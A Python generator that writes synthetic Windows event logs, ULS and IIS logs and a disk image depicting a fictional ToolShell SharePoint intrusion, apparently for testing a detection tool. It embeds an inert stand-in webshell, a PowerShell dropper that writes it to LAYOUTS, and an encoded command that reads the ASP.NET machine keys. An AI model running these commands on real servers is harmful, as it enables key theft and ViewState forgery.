#!/usr/bin/env python3
"""Generates the host side of examples/sharepoint-toolshell/ and the disk image examples/sharepoint-toolshell-disk/.

Writes, for the fictional Northwind Traders farm of gen_sharepoint_toolshell.py (whose IIS logs it leaves alone):
  SP-WFE01/EventLogs/*.jsonl   Windows events as JSON lines in evtx_dump shape (Sysmon 1/11, Security 4688,
                               PowerShell 4104, Application 1316), ordinary activity plus the intrusion
  SP-WFE02/EventLogs/application.jsonl  failed forged-ViewState attempts (1316, event code 4009)
  SP-WFE02/W3SVC1/u_ex250719.log        the IIS log of those attempts (a day the IIS generator does not write)
  SP-WFE01/ULS/SP-WFE01-20250718-1800.log  the ULS trace log around the exploit (servers run on UTC)
  ../sharepoint-toolshell-disk/        a SharePoint hive with the dropped (inert) spinstall0.aspx, for `vigil scan`

Deterministic: fixed seeds and no clock; running it again rewrites the same bytes.
    python3 examples/tools/gen_sharepoint_toolshell_host.py [--list]
"""
import base64
import json
import os
import random
import sys
from datetime import datetime, timedelta

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import gen_sharepoint_toolshell as iis  # noqa: E402  (the IIS generator: Log, ordinary_day, user agents)

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "..", "sharepoint-toolshell")
DISK = os.path.join(HERE, "..", "sharepoint-toolshell-disk")
SEED = 20250719
DOMAIN_SUFFIX = ".nwt.local"
HIVE = "C:\\Program Files\\Common Files\\Microsoft Shared\\Web Server Extensions\\16"
LAYOUTS = HIVE + "\\TEMPLATE\\LAYOUTS"
W3WP = "C:\\Windows\\System32\\inetsrv\\w3wp.exe"
CMD = "C:\\Windows\\System32\\cmd.exe"
POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
OWSTIMER = HIVE + "\\BIN\\OWSTIMER.EXE"
CSC = "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe"
SP_POOL = ('c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "SharePoint - 80" -v "v4.0" -l "webengine4.dll" '
           '-a \\\\.\\pipe\\iisipm5b1f7c3e-0a9d-4e2b-8c6f-1d3a5e7b9c0f -h "C:\\inetpub\\temp\\apppools\\SharePoint - 80'
           '\\SharePoint - 80.config" -w "" -m 0 -t 20 -ta 0')
SERVICE_SID = "S-1-5-21-3623811015-3361044348-30300820-1611"  # NWT\svc_spcontent, the web application pool account

# The webshell this example plants: it has the shape DOMAIN.md describes (loads MachineKeySection, writes the keys)
# but it is inert: the page is never compiled, and its key-printing line is a comment.
INERT_WEBSHELL = """<%@ Import Namespace="System.Diagnostics" %>
<%@ Import Namespace="System.IO" %>
<script runat="server" language="c#" CODEPAGE="65001">
    // Vigil example incident: an INERT stand-in for the ToolShell key-dumping page. It has the indicators
    // that scanners look for, but this file is not deployed anywhere and the Response.Write line is a comment.
    public void Page_load()
    {
        var sy = System.Reflection.Assembly.Load("System.Web, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b03f5f7f11d50a3a");
        var mkt = sy.GetType("System.Web.Configuration.MachineKeySection");
        var gac = mkt.GetMethod("GetApplicationConfig", System.Reflection.BindingFlags.Static | System.Reflection.BindingFlags.NonPublic);
        var cg = (System.Web.Configuration.MachineKeySection)gac.Invoke(null, new object[0]);
        // Response.Write(cg.ValidationKey+"|"+cg.Validation+"|"+cg.DecryptionKey+"|"+cg.Decryption+"|"+cg.CompatibilityMode);
    }
</script>
"""

DROPPER = ('$base64String = "' + base64.b64encode(INERT_WEBSHELL.encode()).decode() + '"\n'
           '$destinationFile = "C:\\PROGRA~1\\COMMON~1\\MICROS~1\\WEBSER~1\\16\\TEMPLATE\\LAYOUTS\\spinstall0.aspx"\n'
           '$decodedBytes = [System.Convert]::FromBase64String($base64String)\n'
           '[System.IO.File]::WriteAllBytes($destinationFile, $decodedBytes)\n')
KEY_THEFT = ('[System.Reflection.Assembly]::Load("System.Web, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b03f5f7f11d50a3a") | Out-Null\n'
             '$cfg = [System.Web.Configuration.MachineKeySection]::GetApplicationConfig()\n'
             '"$($cfg.ValidationKey)|$($cfg.Validation)|$($cfg.DecryptionKey)|$($cfg.Decryption)" | Out-String\n')


def utf16_b64(script):
    return base64.b64encode(script.encode("utf-16-le")).decode()


DROPPER_COMMAND = "powershell.exe -EncodedCommand " + utf16_b64(DROPPER)
KEY_THEFT_COMMAND = "powershell.exe -nop -EncodedCommand " + utf16_b64(KEY_THEFT)

PROVIDERS = {
    "sysmon": ("Microsoft-Windows-Sysmon", "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}", "Microsoft-Windows-Sysmon/Operational"),
    "security": ("Microsoft-Windows-Security-Auditing", "{54849625-5478-4994-a5ba-3e3b0328c30d}", "Security"),
    "powershell": ("Microsoft-Windows-PowerShell", "{a0c1853b-5c40-4b15-8766-3cf1c58f985a}", "Microsoft-Windows-PowerShell/Operational"),
}


class Channel:
    """Events of one channel on one server, written in time order with increasing record ids."""

    def __init__(self, server, name, first_record):
        self.server, self.name, self.next_record = server, name, first_record
        self.events = []  # (time, order, event id, system extras, data, mark)

    def add(self, t, event_id, data, mark=None, provider=None, qualifiers=None, level=4, task=0, version=0):
        self.events.append((t, len(self.events), event_id, (provider, qualifiers, level, task, version), data, mark))

    def render(self):
        lines, marks = [], []
        for t, _, event_id, (provider, qualifiers, level, task, version), data, mark in sorted(self.events, key=lambda e: (e[0], e[1])):
            name, guid, channel = provider if provider else PROVIDERS[self.name]
            system = {"Provider": {"#attributes": {"Name": name, "Guid": guid} if guid else {"Name": name}},
                      "EventID": {"#attributes": {"Qualifiers": qualifiers}, "#text": event_id} if qualifiers is not None else event_id,
                      "Version": version, "Level": level, "Task": task, "Opcode": 0,
                      "Keywords": "0x8020000000000000" if channel == "Security" else "0x8000000000000000",
                      "TimeCreated": {"#attributes": {"SystemTime": t.strftime("%Y-%m-%dT%H:%M:%S.%fZ")}},
                      "EventRecordID": self.next_record, "Correlation": None,
                      "Execution": {"#attributes": {"ProcessID": 2840 if channel.startswith("Microsoft-Windows-Sysmon") else 4, "ThreadID": 3528}},
                      "Channel": channel, "Computer": self.server + DOMAIN_SUFFIX,
                      "Security": {"#attributes": {"UserID": "S-1-5-18"}} if channel.startswith("Microsoft-Windows-Sysmon") else None}
            self.next_record += 1
            lines.append(json.dumps({"Event": {"#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
                                               "System": system, "EventData": data}}, separators=(",", ":")))
            if mark:
                marks.append((len(lines), mark))
        return "\n".join(lines) + "\n", marks


def guid(rnd):
    return "{8c1e4f2a-%04x-%04x-%04x-%012x}" % (rnd.getrandbits(16), rnd.getrandbits(16), rnd.getrandbits(16), rnd.getrandbits(48))


class Host:
    """One server's Sysmon, Security and PowerShell channels, with helpers that keep process ids consistent."""

    def __init__(self, server, rnd):
        self.server, self.rnd = server, rnd
        self.sysmon = Channel(server, "sysmon", 88120)
        self.security = Channel(server, "security", 1450230)
        self.powershell = Channel(server, "powershell", 20411)
        self.pids = {}

    def process(self, t, image, command, parent, parent_command, parent_pid, user="NWT\\svc_spcontent", mark=None,
                security_mark=None, integrity="High", directory="C:\\Windows\\system32\\inetsrv\\"):
        pid = self.rnd.randrange(1000, 12000, 4)
        utc = t.strftime("%Y-%m-%d %H:%M:%S.") + "%03d" % (t.microsecond // 1000)
        self.sysmon.add(t, 1, {"RuleName": "-", "UtcTime": utc, "ProcessGuid": guid(self.rnd), "ProcessId": pid,
                               "Image": image, "FileVersion": "10.0.20348.1", "Description": os.path.basename(image),
                               "Product": "Microsoft® Windows® Operating System", "Company": "Microsoft Corporation",
                               "OriginalFileName": os.path.basename(image), "CommandLine": command,
                               "CurrentDirectory": directory, "User": user, "LogonGuid": "{8c1e4f2a-2c11-6879-e7c3-0d0000000000}",
                               "LogonId": "0xdc3e7", "TerminalSessionId": 0, "IntegrityLevel": integrity,
                               "Hashes": "SHA256=%064X" % self.rnd.getrandbits(256), "ParentProcessGuid": guid(self.rnd),
                               "ParentProcessId": parent_pid, "ParentImage": parent, "ParentCommandLine": parent_command,
                               "ParentUser": user}, mark=mark, task=1, version=5)
        account = user.split("\\")[-1]
        self.security.add(t + timedelta(milliseconds=3), 4688, {
            "SubjectUserSid": SERVICE_SID, "SubjectUserName": account, "SubjectDomainName": "NWT", "SubjectLogonId": "0xdc3e7",
            "NewProcessId": hex(pid), "NewProcessName": image, "TokenElevationType": "%%1936", "ProcessId": hex(parent_pid),
            "CommandLine": command, "TargetUserSid": "S-1-0-0", "TargetUserName": "-", "TargetDomainName": "-",
            "TargetLogonId": "0x0", "ParentProcessName": parent, "MandatoryLabel": "S-1-16-12288"},
            mark=security_mark, task=13312, version=2)
        return pid

    def file(self, t, image, pid, target, mark=None):
        utc = t.strftime("%Y-%m-%d %H:%M:%S.") + "%03d" % (t.microsecond // 1000)
        self.sysmon.add(t, 11, {"RuleName": "-", "UtcTime": utc, "ProcessGuid": guid(self.rnd), "ProcessId": pid, "Image": image,
                                "TargetFilename": target, "CreationUtcTime": utc, "User": "NWT\\svc_spcontent"},
                        mark=mark, task=11, version=2)

    def script(self, t, text, path="", mark=None):
        self.powershell.add(t, 4104, {"MessageNumber": 1, "MessageTotal": 1, "ScriptBlockText": text,
                                      "ScriptBlockId": "%08x-%04x-4%03x-a%03x-%012x" % (self.rnd.getrandbits(32), self.rnd.getrandbits(16),
                                                                                       self.rnd.getrandbits(12), self.rnd.getrandbits(12),
                                                                                       self.rnd.getrandbits(48)),
                                      "Path": path}, mark=mark, level=5 if "Get-" in text[:40] else 3, task=2, version=1)


def application_1316(channel, t, client_ip, code, message, url, mark=None):
    """ASP.NET web event 1316 as it appears in the Application log: unnamed Data items, Qualifiers 32768."""
    data = [code, message, t.strftime("%-m/%-d/%Y %-I:%M:%S %p"), t.strftime("%-m/%-d/%Y %-I:%M:%S %p"),
            "%032x" % random.Random(str(t)).getrandbits(128), "2", "1", "0",
            "/LM/W3SVC/1/ROOT-1-133973421123456789", "Full", "/", "C:\\inetpub\\wwwroot\\wss\\VirtualDirectories\\80\\",
            channel.server, "", "3344", "w3wp.exe", "NWT\\svc_spcontent", "https://" + iis.HOST + ":443" + url, url,
            client_ip, "", "False", "", "NWT\\svc_spcontent", "5", "NWT\\svc_spcontent", "False",
            "    at System.Web.UI.ViewStateException.ThrowError(Exception inner, String persistedState, String errorPageMessage, Boolean macValidationError)\r\n"
            "   at System.Web.UI.ObjectStateFormatter.Deserialize(String inputString, Purpose purpose)\r\n"]
    channel.add(t, 1316, {"Data": data, "Binary": None}, mark=mark, provider=("ASP.NET 4.0.30319.0", None, "Application"),
                qualifiers=32768, level=3, task=3)


def ordinary_host(host, day, rnd):
    """A working day's routine: timer-job PowerShell, page compilation, a crawl, admin scripts."""
    t = day + timedelta(hours=12, minutes=5)
    while t < day + timedelta(hours=23, minutes=50):
        kind = rnd.random()
        if kind < 0.35:  # ASP.NET compiles a page in the SharePoint pool: w3wp → csc.exe (benign near-miss)
            host.process(t, CSC, CSC + ' /noconfig /fullpaths @"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\Temporary ASP.NET Files\\root\\%08x\\%08x\\%s.cmdline"'
                         % (rnd.getrandbits(32), rnd.getrandbits(32), "".join(rnd.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(8))),
                         W3WP, SP_POOL, 3344)
        elif kind < 0.65:  # health-check timer job runs PowerShell
            pid = host.process(t, POWERSHELL, POWERSHELL + ' -NoProfile -NonInteractive -File "D:\\Scripts\\Check-SPHealth.ps1"',
                               OWSTIMER, '"' + OWSTIMER + '"', 2212, user="NWT\\svc_spfarm", directory="C:\\Windows\\system32\\")
            host.script(t + timedelta(seconds=1), "Add-PSSnapin Microsoft.SharePoint.PowerShell -ErrorAction SilentlyContinue\n"
                        "Get-SPServiceInstance | Where-Object { $_.Status -ne 'Online' } | Select-Object TypeName, Server, Status\n"
                        "Get-SPContentDatabase | Select-Object Name, CurrentSiteCount, DiskSizeRequired",
                        path="D:\\Scripts\\Check-SPHealth.ps1")
            host.file(t + timedelta(seconds=2), POWERSHELL, pid, "D:\\Scripts\\Reports\\health-%s.csv" % t.strftime("%Y%m%d-%H%M"))
        elif kind < 0.8:  # an administrator lists the LAYOUTS folder (read only: a near-miss for the write rule)
            host.script(t, 'Get-ChildItem "' + LAYOUTS + '" -Filter *.aspx | Sort-Object LastWriteTime -Descending | Select-Object -First 20',
                        path="")
        else:  # search crawl component starts its filter daemon
            host.process(t, "C:\\Program Files\\Microsoft Office Servers\\16.0\\Search\\Runtime\\1.0\\mssdmn.exe",
                         '"C:\\Program Files\\Microsoft Office Servers\\16.0\\Search\\Runtime\\1.0\\mssdmn.exe" -a 9232',
                         "C:\\Program Files\\Microsoft Office Servers\\16.0\\Search\\Runtime\\1.0\\mssearch.exe", "mssearch.exe",
                         1840, user="NWT\\svc_spsearch", integrity="System", directory="C:\\Windows\\system32\\")
        t += timedelta(minutes=rnd.randrange(14, 41), seconds=rnd.randrange(60), microseconds=rnd.randrange(1000000))


def intrusion(wfe01):
    """The host side of the scripted ToolShell intrusion (times follow the IIS lines of the IIS generator)."""
    t = datetime(2025, 7, 18, 18, 6, 13, 901000)
    cmd_line = "cmd.exe /c " + DROPPER_COMMAND
    cmd = wfe01.process(t, CMD, cmd_line, W3WP, SP_POOL, 3344,
                        mark="ToolShell: the SharePoint pool's w3wp.exe starts cmd.exe carrying the encoded dropper",
                        security_mark="ToolShell: 4688 of the same cmd.exe")
    ps = wfe01.process(t + timedelta(milliseconds=119), POWERSHELL, DROPPER_COMMAND, CMD, cmd_line, cmd,
                       mark="ToolShell: powershell.exe -EncodedCommand (dropper)", security_mark="ToolShell: 4688 of the dropper")
    wfe01.script(t + timedelta(milliseconds=498), DROPPER, mark="ToolShell: 4104 decoded dropper writes spinstall0.aspx")
    wfe01.file(t + timedelta(milliseconds=611), POWERSHELL, ps, LAYOUTS + "\\spinstall0.aspx",
               mark="ToolShell: spinstall0.aspx created in LAYOUTS")
    # day two: code execution through the forged ViewState (IIS 07-19 07:29:02), keys read from PowerShell
    t = datetime(2025, 7, 19, 7, 29, 3, 120000)
    cmd_line = 'cmd.exe /c whoami /all & ' + KEY_THEFT_COMMAND
    cmd = wfe01.process(t, CMD, cmd_line, W3WP, SP_POOL, 3344,
                        mark="forged ViewState gives code execution: w3wp.exe starts cmd.exe",
                        security_mark="forged ViewState: 4688 of that cmd.exe")
    wfe01.process(t + timedelta(milliseconds=140), POWERSHELL, KEY_THEFT_COMMAND, CMD, cmd_line, cmd,
                  mark="forged ViewState: encoded key-reading PowerShell", security_mark="forged ViewState: 4688 of PowerShell")
    wfe01.script(t + timedelta(milliseconds=700), KEY_THEFT, mark="machine keys read through MachineKeySection (4104)")


ULS_HEADER = "\t".join(["Timestamp              ", "Process                                 ", "TID   ",
                        "Area                          ", "Category                      ", "EventID", "Level     ",
                        "Message ", "Correlation"])


def uls_line(t, process, tid, area, category, event_id, level, message, correlation, continued=False):
    stamp = t.strftime("%m/%d/%Y %H:%M:%S.") + "%02d" % (t.microsecond // 10000) + ("*" if continued else " ")
    return "\t".join([stamp, process.ljust(40), tid, area.ljust(30), category.ljust(30), event_id.ljust(4), level.ljust(8),
                      message, correlation])


def uls_request(lines, t, method, url, user, correlation, rnd, tid, error=None):
    process = "w3wp.exe (0x0D10)"
    lines.append((t, uls_line(t, process, tid, "SharePoint Foundation", "Logging Correlation Data", "xmnv", "Medium",
                              "Name=Request (%s:https://%s:443%s)" % (method, iis.HOST, url), correlation)))
    lines.append((t, uls_line(t, process, tid, "SharePoint Foundation", "Authentication Authorization", "agb9s", "Medium",
                              "Non-OAuth request. IsAuthenticated=%s, UserIdentityName=%s, ClaimsCount=%d"
                              % ("True" if user else "False", ("0#.w|" + user.lower()) if user else "", 24 if user else 0),
                              correlation)))
    if error:
        # a long message is split: the first piece ends in "...", the next ones start with "..." and carry "*"
        head, tail = error[:220], error[220:]
        t2 = t + timedelta(milliseconds=rnd.randrange(200, 900))
        lines.append((t2, uls_line(t2, process, tid, "SharePoint Foundation", "Runtime", "tkau", "Unexpected", head + "...", correlation)))
        lines.append((t2, uls_line(t2, process, tid, "SharePoint Foundation", "Runtime", "tkau", "Unexpected", "..." + tail,
                                   correlation, continued=True)))
    t3 = t + timedelta(milliseconds=rnd.randrange(900, 2300))
    lines.append((t3, uls_line(t3, process, tid, "SharePoint Foundation", "Monitoring", "b4ly", "Medium",
                               "Leaving Monitored Scope (Request (%s:https://%s:443%s)). Execution Time=%.4f"
                               % (method, iis.HOST, url, rnd.uniform(20, 2200)), correlation)))


def uls_log(rnd):
    lines = []
    start = datetime(2025, 7, 18, 18, 0, 0)

    def correlation():
        return "%08x-%04x-%04x-%04x-%012x" % (rnd.getrandbits(32), rnd.getrandbits(16), 0x4000 | rnd.getrandbits(12),
                                              0x8000 | rnd.getrandbits(14), rnd.getrandbits(48))
    t = start + timedelta(seconds=3)
    users = [u for u, _, _ in iis.USERS]
    while t < start + timedelta(minutes=30):
        url = rnd.choice(["/_layouts/15/start.aspx", "/SitePages/Home.aspx", "/sites/hr/SitePages/Home.aspx",
                          "/_api/web/lists", "/_vti_bin/client.svc/ProcessQuery", "/sites/finance/Shared%20Documents/Forms/AllItems.aspx"])
        uls_request(lines, t, "POST" if "ProcessQuery" in url else "GET", url, rnd.choice(users), correlation(), rnd,
                    "0x%04X" % rnd.randrange(0x1000, 0x2FFF))
        if rnd.random() < 0.15:
            t2 = t + timedelta(milliseconds=rnd.randrange(1000))
            lines.append((t2, uls_line(t2, "OWSTIMER.EXE (0x08A4)", "0x%04X" % rnd.randrange(0x0400, 0x0FFF), "SharePoint Foundation",
                                       "Timer", "6398", "Verbose", "The Execute method of job definition "
                                       "Microsoft.SharePoint.Administration.SPUsageImportJobDefinition finished.", "00000000-0000-0000-0000-000000000000")))
        t += timedelta(seconds=rnd.randrange(5, 40), microseconds=rnd.randrange(1000000))
    error = ("Application error when access /_layouts/15/ToolPane.aspx, Error=Exception has been thrown by the target of an "
             "invocation.   at System.RuntimeMethodHandle.InvokeMethod(Object target, Object[] arguments, Signature sig, "
             "Boolean constructor)   at System.Reflection.RuntimeMethodInfo.UnsafeInvokeInternal(Object obj, Object[] parameters, "
             "Object[] arguments)   at Microsoft.PerformancePoint.Scorecards.ExcelDataSet.get_DataTable()   at "
             "System.Web.UI.WebControls.WebParts.WebPartManager.ImportWebPart(XmlReader reader, String& errorMessage)")
    marks = []
    for when, suffix in [((18, 6, 12, 340000), "/_layouts/15/ToolPane.aspx?DisplayMode=Edit&a=/ToolPane.aspx"),
                         ((18, 6, 19, 120000), "/_layouts/15/ToolPane.aspx?DisplayMode=Edit&a=/ToolPane.aspx"),
                         ((18, 7, 40, 550000), "/_layouts/15/ToolPane.aspx/?DisplayMode=Edit&a=/ToolPane.aspx")]:
        at = datetime(2025, 7, 18, *when)
        uls_request(lines, at, "POST", suffix, None, correlation(), rnd, "0x1B44", error=error)
        marks.append((at, "ToolShell exploit request"))
    uls_request(lines, datetime(2025, 7, 18, 18, 8, 3, 900000), "GET", "/_layouts/15/spinstall0.aspx", None, correlation(), rnd, "0x2230")
    lines.sort(key=lambda item: item[0])
    text = [ULS_HEADER] + [line for _, line in lines]
    numbered = [(number + 2, line) for number, (_, line) in enumerate(lines)]
    listed = [(n, "ToolShell exploit request (ULS)") for n, line in numbered if "Name=Request (POST" in line and "ToolPane" in line]
    return "\r\n".join(text) + "\r\n", listed


def wfe02_day_two(rnd):
    """SP-WFE02 on 19 July: a quiet Saturday, and another actor sending ViewState payloads signed with a wrong key."""
    log = iis.Log("SP-WFE02", "250719", fields_change_at=datetime(2025, 7, 19, 0, 0, 0))
    iis.ordinary_day(log, rnd, datetime(2025, 7, 19), busy=False)
    app = Channel("SP-WFE02", "application", 301877)
    for second in (11, 15, 31):
        t = datetime(2025, 7, 19, 10, 2, second)
        log.add(t, "POST", "/_layouts/15/start.aspx", "", None, "134.199.202.205", iis.UA_CHROME, None, 500, taken=41,
                mark="forged __VIEWSTATE with a wrong key: 500")
        application_1316(app, t + timedelta(milliseconds=20), "134.199.202.205", "4009",
                         "Viewstate verification failed. Reason: Viewstate was invalid.", "/_layouts/15/start.aspx",
                         mark="ViewState verification failed (1316, code 4009)")
    # an ordinary 1316 of another kind on the same day (expired forms ticket): not the rule's code
    application_1316(app, datetime(2025, 7, 19, 8, 40, 12), "10.20.34.18", "4005",
                     "Forms authentication failed for the request. Reason: The ticket supplied has expired.", "/_layouts/15/start.aspx")
    return log, app


def write(path, text):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w", encoding="utf-8", newline="") as out:
        out.write(text)


def disk():
    """A SharePoint 16 hive as an imaged server shows it, with the dropped page and ordinary files."""
    root = os.path.join(DISK, "Program Files", "Common Files", "Microsoft Shared", "Web Server Extensions", "16")
    ordinary = {
        "TEMPLATE/LAYOUTS/start.aspx": '<%@ Page Language="C#" Inherits="Microsoft.SharePoint.ApplicationPages.StartPage" '
                                       'MasterPageFile="~masterurl/default.master" %>\n<asp:Content ContentPlaceHolderID="PlaceHolderMain" runat="server"/>\n',
        "TEMPLATE/LAYOUTS/ToolPane.aspx": '<%@ Page Language="C#" Inherits="Microsoft.SharePoint.WebPartPages.ToolPane" %>\n',
        "TEMPLATE/LAYOUTS/SignOut.aspx": '<%@ Page Language="C#" Inherits="Microsoft.SharePoint.ApplicationPages.SignOutPage" %>\n',
        "TEMPLATE/LAYOUTS/sp.debug.js": "// SharePoint client object model (debug build placeholder for the example)\nfunction SP_Debug() { return 0; }\n",
        "TEMPLATE/LAYOUTS/1033/STYLES/Themable/corev15.css": "body { font-family: 'Segoe UI', sans-serif; }\n",
        "TEMPLATE/LAYOUTS/web.config": '<?xml version="1.0" encoding="utf-8"?>\n<configuration>\n  <system.web>\n'
                                       '    <authorization><allow users="*" /></authorization>\n  </system.web>\n</configuration>\n',
        "TEMPLATE/CONTROLTEMPLATES/AclEditor.ascx": '<%@ Control Language="C#" Inherits="Microsoft.SharePoint.WebControls.AclEditor" %>\n',
        "ISAPI/web.config": '<?xml version="1.0" encoding="utf-8"?>\n<configuration>\n  <system.webServer>\n'
                            '    <handlers><add name="svc" path="*.svc" verb="*" type="System.ServiceModel.Activation.HttpHandler" /></handlers>\n'
                            '  </system.webServer>\n</configuration>\n',
        "LOGS/README.txt": "ULS logs of SP-WFE01 are in examples/sharepoint-toolshell/SP-WFE01/ULS/.\n",
    }
    for relative, text in ordinary.items():
        write(os.path.join(root, *relative.split("/")), text)
    write(os.path.join(root, "TEMPLATE", "LAYOUTS", "spinstall0.aspx"), INERT_WEBSHELL)


def main():
    rnd = random.Random(SEED)
    wfe01 = Host("SP-WFE01", rnd)
    ordinary_host(wfe01, datetime(2025, 7, 18), rnd)
    ordinary_host(wfe01, datetime(2025, 7, 19), rnd)
    intrusion(wfe01)
    outputs = {}
    for channel, name in ((wfe01.sysmon, "sysmon"), (wfe01.security, "security"), (wfe01.powershell, "powershell")):
        outputs[os.path.join("SP-WFE01", "EventLogs", name + ".jsonl")] = channel.render()
    uls_text, uls_marks = uls_log(random.Random(SEED + 1))
    outputs[os.path.join("SP-WFE01", "ULS", "SP-WFE01-20250718-1800.log")] = (uls_text, uls_marks)
    log, app = wfe02_day_two(random.Random(SEED + 2))
    iis_text, iis_marks = log.render()
    outputs[os.path.join("SP-WFE02", "W3SVC1", "u_ex250719.log")] = (iis_text.replace("\n", "\r\n"), [(n, m) for n, m, _ in iis_marks])
    outputs[os.path.join("SP-WFE02", "EventLogs", "application.jsonl")] = app.render()
    for relative, (text, marks) in outputs.items():
        write(os.path.join(OUT, relative), text)
        if "--list" in sys.argv:
            for number, mark in marks:
                print(f"{relative}:{number}: {mark}")
    disk()


if __name__ == "__main__":
    main()
